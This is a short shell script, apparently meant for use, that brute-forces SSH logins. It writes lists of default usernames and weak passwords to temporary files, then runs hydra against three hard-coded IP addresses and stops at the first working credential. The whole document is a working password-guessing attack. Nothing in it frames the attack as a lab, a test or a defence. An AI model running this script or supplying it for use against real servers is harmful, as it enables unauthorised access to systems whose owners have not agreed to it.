#!/bin/sh
# Guesses passwords of the SSH servers nearby.
printf 'root\nadmin\nubuntu\n' >/tmp/users
printf '123456\npassword\nroot\ntoor\nadmin\n' >/tmp/words
for host in 10.0.0.5 192.168.1.1 203.0.113.20; do hydra -L /tmp/users -P /tmp/words -t 4 -w 3 -f "ssh://$host"; done
